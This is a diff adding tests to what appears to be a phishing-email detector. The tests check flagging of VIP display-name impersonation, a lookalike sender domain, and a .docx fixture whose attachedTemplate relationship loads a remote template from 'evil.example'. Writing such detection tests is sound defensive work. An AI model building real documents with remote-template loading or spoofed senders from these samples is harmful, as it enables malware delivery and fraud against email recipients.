@@ -376,3 +376,31 @@ def test_broken_and_huge_images_are_skipped(rules):
     atts = [("big.png", "image/png", png), ("broken.jpg", "image/jpeg", b"\xff\xd8\xff" + b"\x00" * 50)]
     v, found = codes(message("images", attachments=atts), rules)
     assert "url.qr-code" not in found and v.verdict in ("clean", "spam", "suspicious")
+
+
+def test_configured_vip_and_own_domain(tmp_path):
+    f = tmp_path / "rules.yaml"
+    f.write_text(
+        "own_domains: [example.co.jp]\nvips: [{name: 山田 太郎, addresses: [yamada@example.co.jp]}]\n",
+        encoding="utf-8",
+    )
+    rules = load_rules(f)
+    _, found = codes(message("お願いがあります", from_="山田 太郎 <yamada.taro@mail-ceo.example>"), rules)
+    assert "header.display-name-impersonation" in found
+    _, found = codes(message("お願いがあります", from_="山田 太郎 <yamada@example.co.jp>"), rules)
+    assert "header.display-name-impersonation" not in found
+    v, found = codes(message("請求書", from_="経理 <keiri@examp1e.co.jp>"), rules)
+    assert "header.lookalike-domain" in found
+    assert any(s["evidence"].get("target") == "example.co.jp" for s in v.signals)
+
+
+def test_office_external_relationship(rules):
+    rels = (
+        b'<Relationships><Relationship Id="rId9" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
+        b'relationships/attachedTemplate" Target="https://evil.example/t.dotm" TargetMode="External"/>'
+        b"</Relationships>"
+    )
+    doc = _zip([("word/document.xml", b"<w/>"), ("word/_rels/settings.xml.rels", rels)])
+    v, found = codes(message("契約書", attachments=[("契約書.docx", "application/octet-stream", doc)]), rules)
+    assert "attachment.office-external" in found
+    assert any("evil.example" in s["evidence"].get("target", "") for s in v.signals)
